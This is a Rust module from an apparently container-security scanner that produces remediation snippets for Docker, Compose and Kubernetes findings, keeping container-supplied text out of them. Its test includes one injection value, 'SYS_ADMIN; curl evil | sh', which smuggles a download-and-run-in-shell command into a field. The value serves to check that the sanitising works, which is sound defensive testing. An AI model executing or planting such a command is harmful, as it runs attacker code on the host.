//! The fix `y` copies: built only from our own rule's text, never from the container. A
//! container's strings (a mount path, a port, an image name) are what the finding is about, but
//! pasted into a shell or a manifest they would run or apply whatever a hostile image put there,
//! so the rule's `{subject}` stays a placeholder for the operator to fill in from the evidence.

use crate::model::{Finding, SourceKind, Workload};

/// Where a rule's fix says the container's subject goes.
pub const PLACEHOLDER: &str = "<subject>";
/// The label Docker Compose puts on the containers it creates.
const COMPOSE_LABEL: &str = "com.docker.compose.project";

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Snippet {
    /// Which fix it is: `docker run`, `Compose` or `pod spec`.
    pub label: &'static str,
    pub text: String,
}

/// The fix that matches how the workload was made: a pod → its pod-spec YAML; a container
/// started by Compose → the Compose key; any other container → the `docker run` flag. `None`
/// for a finding our catalog has no fix of that kind for.
pub fn for_finding(finding: &Finding, workload: &Workload) -> Option<Snippet> {
    let rule = crate::rules::find(&finding.rule)?;
    let (label, text) = match workload.source.kind {
        SourceKind::Kubernetes => ("pod spec", rule.kube?.yaml),
        SourceKind::Docker => {
            let fix = rule.docker?;
            if workload.labels.contains_key(COMPOSE_LABEL) {
                ("Compose", fix.compose)
            } else {
                ("docker run", fix.run)
            }
        }
    };
    Some(Snippet {
        label,
        text: text.replace("{subject}", PLACEHOLDER),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::SourceRef;

    fn finding(rule: &'static crate::rules::Rule, kind: SourceKind, subject: &str) -> Finding {
        let hit = crate::rules::Hit::new(rule.severity, "evidence").about(subject);
        rule.finding(hit, kind)
    }

    fn workload(kind: SourceKind) -> Workload {
        let source = SourceRef {
            kind,
            context: "ctx".to_owned(),
        };
        let mut w = Workload::new(source, "id", "web");
        w.labels.clear();
        w
    }

    #[test]
    fn the_fix_matches_how_the_workload_was_made() {
        let rule = crate::rules::find("cap-add").unwrap();
        let docker = workload(SourceKind::Docker);
        let evil = "SYS_ADMIN; curl evil | sh";
        let f = finding(rule, SourceKind::Docker, evil);
        let run = for_finding(&f, &docker).unwrap();
        assert_eq!(run.label, "docker run");
        assert_eq!(
            run.text,
            "remove --cap-add <subject>; prefer --cap-drop ALL plus only the capabilities needed"
        );
        let mut compose = docker.clone();
        compose
            .labels
            .insert(COMPOSE_LABEL.to_owned(), "shop".to_owned());
        let c = for_finding(&f, &compose).unwrap();
        assert_eq!(c.label, "Compose");
        assert!(c.text.starts_with("cap_drop: [ALL]\n"), "{}", c.text);
        let pod = workload(SourceKind::Kubernetes);
        let k = for_finding(&finding(rule, SourceKind::Kubernetes, evil), &pod).unwrap();
        assert_eq!(k.label, "pod spec");
        assert!(k.text.starts_with("securityContext:\n"), "{}", k.text);
        for s in [run, c, k] {
            assert!(
                !s.text.contains("curl"),
                "container data copied: {}",
                s.text
            );
        }
    }

    #[test]
    fn unknown_rules_have_no_snippet() {
        let mut f = finding(
            crate::rules::find("cap-add").unwrap(),
            SourceKind::Docker,
            "X",
        );
        f.rule = "no-such-rule".into();
        assert_eq!(for_finding(&f, &workload(SourceKind::Docker)), None);
    }
}
